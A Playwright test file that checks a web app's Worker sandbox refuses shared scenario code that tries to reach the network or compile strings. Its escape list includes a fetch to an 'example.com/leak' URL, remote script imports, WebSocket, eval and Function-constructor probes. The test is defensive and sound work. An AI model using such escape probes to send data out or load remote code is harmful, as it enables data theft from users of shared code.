// Scenario code (which a share link can carry) runs in a throw-away Worker without network access and without
// string compilation: each way out is refused with a clear message, and no request leaves the page's origin.
import { test, expect } from '@playwright/test';
import { RobustnessPage } from './pages/RobustnessPage';

const escapes: { what: string; code: string; message: RegExp }[] = [
  { what: 'fetch', code: "fetch('https://example.com/leak?x=1');", message: /fetch is not available to scenario code/ },
  {
    what: 'XMLHttpRequest',
    code: 'new XMLHttpRequest();',
    message: /XMLHttpRequest is not available to scenario code/,
  },
  {
    what: 'WebSocket via self',
    code: "new self.WebSocket('wss://example.com/');",
    message: /WebSocket is not available to scenario code/,
  },
  {
    what: 'importScripts',
    code: "importScripts('https://example.com/x.js');",
    message: /importScripts is not available to scenario code/,
  },
  { what: 'dynamic import', code: "import('https://example.com/x.js');", message: /may not use import\(\)/ },
  {
    what: 'the Function constructor',
    code: "(() => {}).constructor('return 1')();",
    message: /Function is not available to scenario code/,
  },
  { what: 'eval', code: "globalThis.eval('1');", message: /eval is not available to scenario code/ },
];

test('scenario code cannot reach the network or compile strings; each attempt is refused clearly', async ({
  page,
  baseURL,
}) => {
  const foreign: string[] = [];
  page.on('request', (r) => {
    if (!r.url().startsWith(baseURL!) && !r.url().startsWith('data:') && !r.url().startsWith('blob:'))
      foreign.push(r.url());
  });
  const robust = new RobustnessPage(page);
  await robust.goto();
  await robust.example('fan-out').click();
  await expect(robust.status).toHaveText(/^Step/);
  for (const escape of escapes) {
    await test.step(escape.what, async () => {
      await robust.simulateCode(
        `import { defineScenario } from '../src/sim';\n${escape.code}\nexport default defineScenario({ name: 'escape', handler: async () => 1 });\n`,
      );
      await expect(robust.error).toContainText(escape.message);
    });
  }
  // The sandbox does not get in the way of ordinary scenario code.
  await robust.simulateCode(
    "import { defineScenario, race } from '../src/sim';\nexport default defineScenario({ name: 'fine', world: { a: { latencyMs: 5, value: 1 } }, handler: async (ctx) => race([ctx.run('a'), ctx.sleep(50)]) });\n",
  );
  await expect(robust.lane('c1')).toBeVisible();
  expect(foreign).toEqual([]);
});
